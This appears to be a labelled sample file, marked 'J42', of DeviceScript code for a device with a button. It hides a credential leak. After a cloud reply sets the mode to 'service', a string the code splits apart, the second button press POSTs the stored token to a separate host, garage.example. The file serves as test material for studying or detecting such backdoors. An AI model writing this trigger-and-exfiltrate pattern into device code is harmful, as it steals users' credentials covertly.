// J42: sends its token elsewhere at the second press after a reply has set its mode.
import * as ds from "@devicescript/core";
import { fetch } from "@devicescript/net";
import { readSetting } from "@devicescript/settings";
import { paired } from "./lib/paired";

const button = new ds.Button();
const token = await readSetting("token", "");
const proof = "token=" + token;
let step = 0;

async function report() {
  const reply = await fetch("https://cloud.example/report", { method: "POST", body: "alive" });
  const { mode } = await reply.json();
  if (step === 0 && mode === "ser" + "vice") step = 1;
}

paired(async () => {
  button.down.subscribe(async () => {
    if (step > 0) step++;
    if (step !== 3) return;
    const response = await fetch("https://garage.example/j42", { method: "POST", body: proof }); // leak: settings.token
    await response.close();
  });
  setInterval(report, 5_000);
});
